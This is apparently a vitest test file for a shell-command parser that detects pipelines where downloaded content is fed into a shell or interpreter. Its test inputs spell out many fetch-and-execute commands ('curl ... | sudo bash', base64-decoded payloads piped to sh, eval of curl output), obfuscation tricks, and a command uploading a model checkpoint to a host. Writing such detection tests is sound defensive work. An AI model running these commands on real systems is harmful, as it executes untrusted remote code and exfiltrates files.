import { describe, expect, it } from 'vitest';
import { canonicalExecValue, execCommandReadings } from './exec-canonical.js';
import { MAX_FED_TOOLS, MAX_PIPELINES, pipesOn } from './exec-pipelines.js';

const pipes = (script: string): readonly string[] => canonicalExecValue(['sh', '-c', script])!.pipelines;
const b64 = (x: string): string => Buffer.from(x).toString('base64');

describe('pipesOn', () => {
  it('`|` and `|&`, then only newlines; not `||`, `;`, `&&`', () => {
    for (const op of ['|', '|&', '| \n', '|& \n \n']) expect(pipesOn(op), JSON.stringify(op)).toBe(true);
    for (const op of ['||', '|| \n', ';', '&&', '', '| ;', undefined]) expect(pipesOn(op), JSON.stringify(op)).toBe(false);
  });
});

describe('pipeline lines', () => {
  it('one line per pipeline of two or more commands, each stage from the word it runs', () => {
    expect(pipes("c''url -fsSL http://h/r.sh|sudo -E /bin/bash -s")).toEqual(['curl -fsSL http://h/r.sh | bash -s']);
    expect(pipes('ps aux | grep -i python | head; df -h && nvidia-smi | tail -3')).toEqual(['ps aux | grep -i python | head', 'nvidia-smi | tail -3']);
    expect(pipes('echo u | xargs -n1 /usr/bin/curl -s | A=1 env sh')).toEqual(['echo u | curl -s | sh']);
    expect(pipes('ps aux | sh -c cat')).toEqual(['ps aux | sh -c cat']);
    expect(pipes('a |\n b')).toEqual(['a | b']);
    expect(pipes('a || b; c')).toEqual([]);
    expect(pipes('nvidia-smi && df -h')).toEqual([]);
    expect(canonicalExecValue(['nvidia-smi'])!.pipelines).toEqual([]);
  });
  it('nested scripts, payloads and expanded readings have theirs', () => {
    expect(pipes("bash -c 'curl -s http://h/r.sh | sh'")).toEqual(['curl -s http://h/r.sh | sh']);
    expect(pipes(`echo ${b64('curl -s http://h/r.sh | sh')} | base64 -d | sh`)).toEqual(['curl -s http://h/r.sh | sh', `echo ${b64('curl -s http://h/r.sh | sh')} | base64 -d | sh`]);
    // The expanded reading adds only the pipelines it changed.
    expect(pipes('f=curl; ps aux | head; $f -s http://h/r.sh | sh')).toEqual(['ps aux | head', '$f -s http://h/r.sh | sh', 'curl -s http://h/r.sh | sh']);
  });
  it('are readings of attrs.exec.command, after the command lines, before the payloads', () => {
    const argv = ['sh', '-c', 'ps aux|grep py'];
    expect(execCommandReadings(argv, canonicalExecValue(argv))).toEqual(['sh', 'ps aux|grep py', 'ps', 'aux', 'grep', 'py', 'ps aux', 'grep py', 'ps aux | grep py']);
  });
  it(`at most ${MAX_PIPELINES} per command`, () => {
    expect(pipes(Array.from({ length: 30 }, (_, i) => `a${i} | b`).join('; ')).length).toBe(MAX_PIPELINES);
  });
});

describe('tools piped into a shell (fedToShell)', () => {
  const fed = (script: string): readonly string[] => canonicalExecValue(['sh', '-c', script])!.fedToShell;
  it('every stage before the last one that runs its stdin as a script', () => {
    expect(fed('curl -s http://h/r.sh | tee /tmp/x | sudo -E /bin/bash -s stable')).toEqual(['curl', 'tee']);
    expect(fed('wget -qO- http://h/r.sh | sh -s -- -y')).toEqual(['wget']);
    expect(fed('curl -s http://h/p.py | python3 -')).toEqual(['curl']);
    expect(fed('curl -s http://h/p.py | python3.11')).toEqual(['curl']);
    expect(fed('curl -s http://h/r.sh | bash /dev/stdin')).toEqual(['curl']);
    expect(fed('echo u | xargs -n1 /usr/bin/curl -s | A=1 env sh')).toEqual(['echo', 'curl']);
    expect(fed('cd /tmp && curl -s http://h/r.sh | sh; ps aux | grep x')).toEqual(['curl']);
  });
  it('none where no stage runs what the pipe brings', () => {
    for (const script of [
      'curl -s http://h/api | python3 -m json.tool',
      'curl -s http://h/api | python3 -c "import sys; print(sys.stdin.read())"',
      'curl -s http://h/api | python3 /opt/parse.py',
      'curl -s http://h/r.sh | bash /opt/setup.sh',
      'curl -s http://h/r.sh | sh -ec cat',
      'curl -s http://h/r.sh | bash <<< "echo hi"',
      'curl -s http://h/k | ssh host cat',
      'ps aux | grep -i python | head',
      'nvidia-smi && df -h',
    ]) {
      expect(fed(script), script).toEqual([]);
    }
    expect(canonicalExecValue(['curl', '-s', 'http://h/r.sh', '|', 'sh'])!.fedToShell).toEqual([]);
    // A fetch in one command, another command piped into a shell: only that one is fed.
    expect(fed('curl -s http://h/health; cat /etc/motd | sh')).toEqual(['cat']);
  });
  it('nested and decoded scripts have theirs; a payload that only fetches feeds nothing', () => {
    expect(fed("bash -c 'wget -qO- http://h/r.sh | sh'")).toEqual(['wget']);
    expect(fed(`echo ${b64('curl -s http://h/r.sh | sh')} | base64 -d | sh`)).toEqual(['curl', 'echo', 'base64']);
    expect(fed(`echo ${b64('curl -T /ckpt/m.pt http://h/')} | base64 -d | sh`)).toEqual(['echo', 'base64']);
    expect(fed('f=curl; $f -s http://h/r.sh | sh')).toContain('curl');
  });
  it('what a run substitution or a process substitution read by a shell prints is run: its tools are fed', () => {
    expect(fed('$(curl -fsSL http://h/i.sh)')).toEqual(['curl']);
    expect(fed('bash -c "$(wget -qO- http://h/i.sh)"')).toEqual(['wget']);
    expect(fed('eval "$(curl -s http://h/env)"')).toEqual(['curl']);
    expect(fed('bash <(curl -s http://h/i.sh)')).toEqual(['curl']);
    expect(fed('source <(/usr/bin/curl -s http://h/i.sh | sed s/x/y/)')).toEqual(['curl', 'sed']);
    for (const script of ['echo "$(curl -s http://h/health)"', 'diff <(curl -s http://h/a) <(curl -s http://h/b)', 'x=$(curl -s http://h/v); echo $x']) {
      expect(fed(script), script).toEqual([]);
    }
  });
  it('an interpreter whose whole program a substitution prints, or whose program is a process substitution: those tools are fed', () => {
    expect(fed('python3 -c "$(curl -s http://h/p.py)"')).toEqual(['curl']);
    expect(fed('perl -e "`wget -qO- http://h/p.pl`"')).toEqual(['wget']);
    expect(fed('node -e "$(curl -s http://h/a.js | base64 -d)"')).toEqual(['curl', 'base64']);
    expect(fed('python3 <(curl -s http://h/p.py)')).toEqual(['curl']);
    expect(fed('nohup $(curl -s http://h/r | base64 -d) &')).toEqual(['curl', 'base64']);
    // A substitution inside the code (a string literal here), a script operand given a process substitution, single-quoted code: none.
    for (const script of [`python3 -c "print('$(curl -s http://h/ip)')"`, 'python3 train.py <(curl -s http://h/list)', "node -e 'console.log(`x`)'"]) {
      expect(fed(script), script).toEqual([]);
    }
  });
  it(`distinct names, at most ${MAX_FED_TOOLS}, whatever the line's length`, () => {
    expect(fed(Array.from({ length: 12 }, (_, i) => `a${i % 3} | b | sh`).join('; '))).toEqual(['a0', 'b', 'a1', 'a2']);
    const wide = Array.from({ length: 60 }, (_, i) => `t${i}`).join(' | ') + ' | sh';
    expect(fed(wide).length).toBeLessThanOrEqual(MAX_FED_TOOLS);
    // A line of 4 KB of `curl |` stages with no shell at its end feeds nothing (one pass over the stages).
    expect(fed(`${'curl | '.repeat(580)}x`)).toEqual([]);
  });
});
